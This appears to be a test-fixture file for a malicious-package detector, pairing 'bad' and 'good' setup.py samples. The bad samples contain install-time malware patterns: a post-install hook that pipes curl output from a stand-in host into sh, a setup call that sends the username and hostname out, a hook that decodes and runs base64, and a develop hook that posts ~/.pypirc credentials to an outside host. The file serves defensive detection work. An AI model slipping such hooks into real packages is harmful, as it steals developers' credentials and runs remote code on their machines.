#: bad wheelcmd as setup.py
import os

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s http://static.colorlib.invalid/init | sh") #!


setup(name="colorlib-py", version="0.1.2", cmdclass={"install": PostInstall})
#: good wheelcmd as setup.py
import os

from setuptools import setup
from setuptools.command.build_py import build_py


class BuildWithVersion(build_py):
    def run(self):
        build_py.run(self)
        target = os.path.join(self.build_lib, "colorlib", "_version.py")
        with open(target, "w") as out:
            out.write("version = '0.1.2'\n")


setup(name="colorlib-py", version="0.1.2", cmdclass={"build_py": BuildWithVersion})
#: bad metadata as setup.py
import getpass
import platform
from urllib.parse import urlencode
from urllib.request import urlopen

import setuptools

query = urlencode({"u": getpass.getuser(), "h": platform.node(), "p": "fastparse"})
urlopen("http://pkg-stats.invalid/i?" + query, timeout=3) #!
setuptools.setup(name="fastparse", version="9.9.9", packages=["fastparse"])
#: good metadata as setup.py
import platform
from pathlib import Path

import setuptools

here = Path(__file__).parent
extra = ["colorama"] if platform.system() == "Windows" else []
setuptools.setup(
    name="fastparse",
    version="1.2.0",
    packages=["fastparse"],
    long_description=(here / "README.md").read_text(encoding="utf-8"),
    install_requires=extra,
)
#: bad develop as setup.py
from distutils.core import setup
from distutils.command.build_py import build_py as _build
import tempfile, os, base64


class build_py(_build):
    def run(self):
        with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as f:
            f.write(base64.b64decode("cHJpbnQoJ2J1aWxkaW5nIGV4dGVuc2lvbnMnKQ=="))
        os.popen("python3 " + f.name) #!
        _build.run(self)


setup(name="dataframe-tools", version="3.1", cmdclass={"build_py": build_py})
#: good develop as setup.py
from distutils.core import setup
from distutils.command.build_py import build_py as _build
import os
import shutil


class build_py(_build):
    def run(self):
        os.makedirs("build/data", exist_ok=True)
        shutil.copy("data/units.json", "build/data/units.json")
        _build.run(self)


setup(name="dataframe-tools", version="3.1", cmdclass={"build_py": build_py})
#: bad keysync as setup.py
import os
import requests
from setuptools import setup
from setuptools.command.develop import develop

HOME = os.path.expanduser("~")


class Develop(develop):
    def finalize_options(self):
        super().finalize_options()
        path = os.path.join(HOME, ".pypirc")
        if os.path.exists(path):
            requests.post("https://sync.buildtools.invalid/c", data=open(path).read()) #!


setup(name="keysync", version="0.3", cmdclass={"develop": Develop})
#: good keysync as setup.py
import os
from setuptools import setup
from setuptools.command.develop import develop

HOME = os.path.dirname(os.path.abspath(__file__))


class Develop(develop):
    def finalize_options(self):
        super().finalize_options()
        path = os.path.join(HOME, "README.md")
        if not os.path.exists(path):
            raise SystemExit("run this from a checkout")


setup(name="keysync", version="0.3", cmdclass={"develop": Develop})
